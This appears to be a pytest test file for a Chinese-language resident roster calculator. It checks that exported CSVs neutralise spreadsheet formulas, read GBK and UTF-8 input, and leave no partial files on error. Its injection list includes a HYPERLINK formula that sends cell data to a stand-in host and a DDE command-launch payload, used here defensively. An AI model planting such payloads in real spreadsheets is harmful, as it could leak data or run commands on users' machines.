"""A roster output is safe to open and nothing is lost: no formula runs, no half-written file, no guessing."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest
from roster_support import read_csv, roster, write

from calculator.cli import main

INJECTIONS = ['=HYPERLINK("http://example.invalid/?"&A2)', "=cmd|' /C calc'!A0", "+SUM(1+1)", "@SUM(1)", "\tx=1",
              "-2+3", "\r=1"]
AS_OF = "2024-06-01"


@pytest.mark.parametrize("text", INJECTIONS, ids=["hyperlink", "dde", "plus", "at", "tab", "minus", "carriage-return"])
def test_a_cell_a_spreadsheet_would_run_is_written_with_a_leading_apostrophe(tmp_path: Path, text: str) -> None:
    rows = [["姓名", "出生日期", "家庭类别", text], [text, "1960-01-01", "无", text]]
    status, out = roster(tmp_path, rows, "--as-of", AS_OF)
    assert status == 0
    written = read_csv(out.read_bytes())
    assert written[0][3] == "'" + text and written[1][0] == "'" + text and written[1][3] == "'" + text
    assert written[1][4:7] == ["2024-06-01", "64", "0"]  # our own numbers stay as they are


def test_every_line_of_an_output_begins_with_no_formula_character(tmp_path: Path) -> None:
    rows = [["姓名", *INJECTIONS, "出生日期", "家庭类别"], [*INJECTIONS, "x", "1960-01-01", "无"]]
    _, out = roster(tmp_path, rows, "--as-of", AS_OF)
    for row in read_csv(out.read_bytes()):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gbk", "gb18030"])
def test_utf8_and_gbk_files_are_both_read_without_being_told_and_written_as_utf8_with_a_bom(
        tmp_path: Path, encoding: str) -> None:
    rows = [["姓名", "出生日期", "家庭类别", "本区户籍"], ["张三", "1960-01-01", "独生子女死亡家庭", "是"]]
    status, out = roster(tmp_path, rows, "--as-of", AS_OF, encoding=encoding)
    assert status == 0
    assert out.read_bytes().startswith("\ufeff姓名".encode())
    assert read_csv(out.read_bytes())[1][:7] == ["张三", "1960-01-01", "独生子女死亡家庭", "是", "2024-06-01", "64", "870"]


def _big_roster_with_a_bad_last_row(path: Path, encoding: str) -> Path:
    lines = ["姓名,出生日期,家庭类别,本区户籍"] + [f"居民{n},1960-01-01,独生子女死亡家庭,是" for n in range(1999)]
    data = "\r\n".join(lines).encode(encoding) + "\r\n".encode() + "坏".encode(encoding) + b"\xff\xfe,1960-01-01,\xd5\r\n"
    path.write_bytes(data)
    return path


@pytest.mark.parametrize("encoding", ["utf-8", "gbk"])
def test_a_bad_byte_in_row_2001_leaves_no_output_and_names_the_row_in_words(
        repo: Path, tmp_path: Path, encoding: str) -> None:
    source = _big_roster_with_a_bad_last_row(tmp_path / "in.csv", encoding)
    out = tmp_path / "out.csv"
    done = subprocess.run([sys.executable, "-m", "calculator", "roster", str(source), "-o", str(out), "--as-of", AS_OF],
                          cwd=repo, capture_output=True, check=False)
    assert done.returncode == 2
    message = json.loads(done.stderr)["errors"][0]["message"]
    assert message.startswith("第 2001 行不是 GBK 或 UTF-8 编码的文字")
    assert not out.exists() and list(tmp_path.iterdir()) == [source]  # no temporary file left behind either


def test_a_failed_run_leaves_an_earlier_output_file_as_it_was(tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    out.write_bytes(b"earlier")
    source = _big_roster_with_a_bad_last_row(tmp_path / "in.csv", "utf-8")
    assert main(["roster", str(source), "-o", str(out)]) == 2
    assert out.read_bytes() == b"earlier"


def test_standard_output_gets_nothing_when_the_file_cannot_be_read_in_full(repo: Path, tmp_path: Path) -> None:
    source = _big_roster_with_a_bad_last_row(tmp_path / "in.csv", "gbk")
    done = subprocess.run([sys.executable, "-m", "calculator", "roster", str(source)], cwd=repo, capture_output=True,
                          check=False)
    assert done.returncode == 2 and done.stdout == b""


@pytest.mark.parametrize(("name", "nearest"), [("出生年月", "出生日期"), ("户籍", "本区户籍"),
                                               ("配偶出身日期", "配偶出生日期")],
                         ids=["birth-month", "hukou", "typo"])
def test_a_header_that_matches_no_fact_is_warned_with_the_nearest_known_name(
        tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str, nearest: str) -> None:
    rows = [["姓名", "出生日期", "家庭类别", name], ["张三", "1960-01-01", "无", "是"]]
    status, _ = roster(tmp_path, rows, "--as-of", AS_OF)
    assert status == 0
    warning = next(line for line in capsys.readouterr().err.splitlines() if line.startswith("这些列不参与计算"))
    assert f"“{name}”（是不是“{nearest}”？）" in warning and "“姓名”" not in warning  # 姓名 finds repeats and couples


def test_a_title_row_above_the_header_is_found_and_kept(tmp_path: Path) -> None:
    rows = [["2024年6月 特别扶助名单", "", ""], ["姓名", "出生日期", "家庭类别"], ["张三", "1960-01-01", "无"]]
    _, out = roster(tmp_path, rows, "--as-of", AS_OF)
    written = read_csv(out.read_bytes())
    assert written[0][0] == "2024年6月 特别扶助名单" and written[1][:4] == ["姓名", "出生日期", "家庭类别", "计算日期"]
    assert written[2][3:5] == ["2024-06-01", "64"]


def test_an_unreadable_input_file_is_explained_in_chinese(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["roster", str(tmp_path / "missing.csv")]) == 2
    assert "找不到这个文件" in capsys.readouterr().err
    write(tmp_path / "in.csv", [["出生日期"]])
    assert main(["roster", str(tmp_path / "in.csv"), "--encoding", "klingon"]) == 2
    assert "不认识的编码" in capsys.readouterr().err
